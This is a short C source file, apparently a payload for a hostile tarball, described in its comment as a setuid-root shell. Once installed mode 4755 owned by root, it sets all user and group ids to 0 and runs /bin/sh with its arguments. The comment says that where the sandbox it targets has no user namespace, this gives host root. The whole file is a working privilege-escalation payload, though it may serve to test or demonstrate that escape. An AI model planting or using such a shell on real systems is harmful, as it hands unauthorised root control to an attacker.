/* The "setuid-root shell" of a hostile tarball: installed 4755 root, it makes
 * itself root with setresuid/setresgid and runs /bin/sh with its arguments.
 * On a wslp without a user namespace, root inside was host root. */
#define _GNU_SOURCE
#include <unistd.h>

int main(int argc, char **argv)
{
    (void)argc;
    argv[0] = "sh"; /* busybox picks the applet by its name */
    setresgid(0, 0, 0);
    setresuid(0, 0, 0);
    execv("/bin/sh", argv);
    return 127;
}
